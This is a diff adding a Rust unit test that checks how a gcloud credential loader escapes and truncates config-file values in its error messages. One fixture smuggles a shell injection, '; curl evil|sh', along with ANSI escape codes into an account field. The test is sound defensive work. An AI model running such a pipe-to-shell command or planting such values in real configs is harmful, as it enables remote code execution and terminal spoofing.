@@ -136,3 +136,32 @@ fn gclouds_token_host_replaces_the_files_token_uri_and_keys_the_cache() {
     env.gcloud.properties = vec![("CLOUDSDK_AUTH_TOKEN_HOST".into(), "not a url".into())];
     assert!(gcloud(&env).expect_err("bad").to_string().starts_with("CLOUDSDK_AUTH_TOKEN_HOST: "));
 }
+
+#[test]
+fn what_gclouds_files_say_is_echoed_on_one_line_and_bounded() {
+    let long = format!("\u{1b}[2J{}", "x".repeat(100_000));
+    let (_dir, env) = gcloud_dir(&[("active_config", &long)]);
+    let err = gcloud(&env).expect_err("not a name").to_string();
+    assert!(
+        err.contains("\"\\u{1b}[2Jxxx") && err.contains("x...\" is not a gcloud configuration name"),
+        "{err}"
+    );
+    assert!(!err.contains('\u{1b}') && err.len() < 600, "{err}");
+
+    let evil = "[core]\naccount = me@example.com\n  \u{1b}[31m; curl evil|sh\n";
+    let (_dir, env) = gcloud_dir(&[("configurations/config_default", evil)]);
+    let err = gcloud(&env).expect_err("not an account").to_string();
+    assert!(err.contains("\"me@example.com\\n\\u{1b}[31m; curl evil|sh\" is not an account"), "{err}");
+    let (_dir, env) =
+        gcloud_dir(&[("configurations/config_default", &format!("[core]\naccount = {}\n", "a".repeat(300)))]);
+    let err = gcloud(&env).expect_err("too long").to_string();
+    assert!(err.contains("aaa...\" is not an account") && err.len() < 400, "{err}");
+
+    let chain = "[core]\naccount = me@example.com\n[auth]\nimpersonate_service_account = \u{1b}[2J@x\n";
+    let (_dir, env) = gcloud_dir(&[
+        ("configurations/config_default", chain),
+        ("legacy_credentials/me@example.com/adc.json", USER),
+    ]);
+    let err = gcloud(&env).expect_err("not an email").to_string();
+    assert!(err.contains("\"\\u{1b}[2J@x\" is not a service account email"), "{err}");
+}
